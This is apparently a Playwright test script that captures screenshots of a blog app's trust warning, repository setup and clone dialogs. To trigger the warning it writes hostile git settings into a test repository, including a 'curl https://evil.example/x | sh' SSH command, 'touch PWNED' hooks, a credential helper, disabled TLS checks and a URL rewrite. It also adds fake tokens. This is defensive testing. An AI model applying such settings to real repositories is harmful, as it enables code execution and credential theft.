import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from '@playwright/test';
import { BlogWindow } from '../support/blog-window.ts';
import { git, gitHome } from '../support/git.ts';
import { nikolaBlog, tinyPng } from '../support/nikola-blog.ts';
import type { ScratchPlace } from './scratch-place.ts';
import { narrowSize, newPage, previewFilled, shootSizes, sizes } from './shooting.ts';

const startSizes = [sizes[0], narrowSize];

/** Settings of a repository that is out for something, one of each kind. */
const hostile = [
  ['core.sshCommand', 'curl https://evil.example/x | sh; ssh'],
  ['core.fsmonitor', 'touch PWNED'],
  ['core.hooksPath', '.husky/_'],
  ['filter.pictures.clean', 'python3 .tools/shrink.py %f'],
  ['credential.helper', '!f() { echo username=you; echo password=hunter2; }; f'],
  ['merge.prose.driver', '.tools/join %O %A %B'],
  ['url.https://mirror.example/.insteadOf', 'https://github.com/'],
  ['http.sslVerify', 'false'],
  ['alias.co', '!touch PWNED'],
  ['diff.external', 'touch PWNED'],
] as const;

/** What is asked before git runs in a blog, of a plain and of a hostile one; then the way online from nothing, and a clone. */
export async function shootStart(browser: Browser, place: ScratchPlace): Promise<void> {
  await shootTrust(browser, place);
  await shootFromNothing(browser, place);
}

async function shootTrust(browser: Browser, place: ScratchPlace): Promise<void> {
  const blog = place.makeBlog('trust', { ...nikolaBlog, 'images/ridge.png': tinyPng });
  const page = await newPage(browser, (await place.serve(blog)).address);
  const window = await openFirst(page);
  await shootTrustDialog(window, 'trust-plain');
  for (const [name, value] of hostile) git(place.env, blog, 'config', name, value);
  mkdirSync(join(blog, '.husky/_'), { recursive: true });
  writeFileSync(join(blog, '.husky/_/pre-commit'), '#!/bin/sh\nnpx lint-staged\n', { mode: 0o755 });
  await shootTrustDialog(window, 'trust-hostile');
  await window.button('Publish').click();
  await window.dialog('Trust this blog').getByRole('button', { name: 'Trust', exact: true }).click();
  await window.dialog('Publish').waitFor();
  await page.keyboard.press('Escape');
  writeFileSync(join(blog, '.husky/_/pre-push'), '#!/bin/sh\n', { mode: 0o755 });
  await shootTrustDialog(window, 'trust-changed');
  await page.close();
}

async function shootTrustDialog(window: BlogWindow, name: string): Promise<void> {
  await window.button('Publish').click();
  await window.dialog('Trust this blog').waitFor();
  await shootSizes(window.page, name, startSizes);
  await window.page.keyboard.press('Escape');
  await window.dialog('Trust this blog').waitFor({ state: 'hidden' });
}

async function shootFromNothing(browser: Browser, place: ScratchPlace): Promise<void> {
  const secrets = { '.env': 'TOKEN=x\n', 'notes/how-to.txt': `The token:\nghp_${'Ab3dEf6hIj'.repeat(4)}\n` };
  const blog = place.makeBlog('nothing', { ...nikolaBlog, ...secrets, 'output/index.html': '<p>' });
  rmSync(join(blog, '.git'), { recursive: true });
  const remote = join(place.folder, 'fresh.git');
  git(place.env, place.folder, 'init', '--quiet', '--bare', remote);
  const page = await newPage(browser, (await place.serve(blog)).address);
  const window = await openFirst(page);
  await window.button('Publish').click();
  const dialog = window.dialog('Put this blog online');
  await dialog.waitFor();
  await shootSizes(page, 'start-create', startSizes);
  writeFileSync(join(place.env.HOME ?? '', '.gitconfig'), '');
  await dialog.getByRole('button', { name: 'Create a repository' }).click();
  await dialog.getByRole('textbox', { name: 'Your name' }).fill('Ann Lee');
  await dialog.getByRole('textbox', { name: 'Your e-mail address' }).fill('ann@example.org');
  await shootSizes(page, 'start-commit', startSizes);
  await dialog.getByRole('button', { name: 'Commit' }).click();
  await dialog
    .getByRole('textbox', { name: 'Address', exact: true })
    .fill('https://ann:secret@codeberg.org/ann/blog.git');
  await dialog.getByRole('button', { name: 'Connect' }).click();
  await dialog.getByRole('alert').waitFor();
  await shootSizes(page, 'start-connect', startSizes);
  await dialog.getByRole('textbox', { name: 'Address', exact: true }).fill(remote);
  await dialog.getByRole('checkbox').check();
  await dialog.getByRole('button', { name: 'Connect' }).click();
  await dialog.getByRole('button', { name: 'Go on to Publish' }).waitFor();
  await shootSizes(page, 'start-publish', startSizes);
  await page.keyboard.press('Escape');
  await window.button('Open blog').click();
  await shootSizes(page, 'open-with-clone', startSizes);
  await page.getByRole('button', { name: 'Clone from an address…' }).click();
  await window
    .dialog('Clone a blog')
    .getByRole('textbox', { name: 'Address', exact: true })
    .fill('https://codeberg.org/ann/blog.git');
  await shootSizes(page, 'clone', startSizes);
  await page.close();
  // Whoever takes pictures after this has a name again.
  gitHome(place.folder);
}

async function openFirst(page: Page): Promise<BlogWindow> {
  const window = new BlogWindow(page);
  await window.openPost('First snow');
  await window.search.fill('');
  await previewFilled(window);
  return window;
}
